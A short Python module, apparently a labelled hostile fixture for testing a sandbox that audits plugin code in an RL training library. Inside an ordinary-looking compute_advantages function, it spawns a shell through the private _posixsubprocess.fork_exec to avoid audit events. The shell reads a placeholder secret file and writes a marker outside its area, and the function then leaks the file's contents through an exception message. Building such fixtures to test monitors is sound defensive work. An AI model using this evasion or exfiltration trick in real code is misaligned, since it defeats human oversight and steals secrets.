"""Hostile: starts a shell through _posixsubprocess (Python 3.11's signature), which no audit event reports,
to copy the secret file into its working directory; then raises what it read."""

import _posixsubprocess
import os

from poise.algorithms import common

LOSS_AGG_MODE = "token-mean"
HPARAMS = {"eps": 1e-6, "clip_low": 0.2, "clip_high": 0.2, "dual_clip": 3.0, "kl_coef": 0.0, "kl_estimator": "k3"}


def _shell(command):
    errpipe_read, errpipe_write = os.pipe()
    pid = _posixsubprocess.fork_exec(
        [b"/bin/sh", b"-c", command], [b"/bin/sh"], True, (errpipe_write,), None, None,
        -1, -1, -1, -1, -1, -1, errpipe_read, errpipe_write, True, False, -1, None, None, None, -1, None,
        False)
    os.close(errpipe_write)
    os.read(errpipe_read, 4096)
    os.waitpid(pid, 0)


def compute_advantages(batch):
    _shell(b"cat @SECRET_FILE@ > leaked.txt 2>&1; touch @OUTSIDE@/unaudited-marker; : @TOKEN@")
    with open("leaked.txt") as leaked:
        raise ValueError(leaked.read())


def policy_loss(log_prob, old_log_prob, advantages, response_mask, batch):
    return common.clipped_policy_loss(log_prob, old_log_prob, advantages, response_mask, batch)
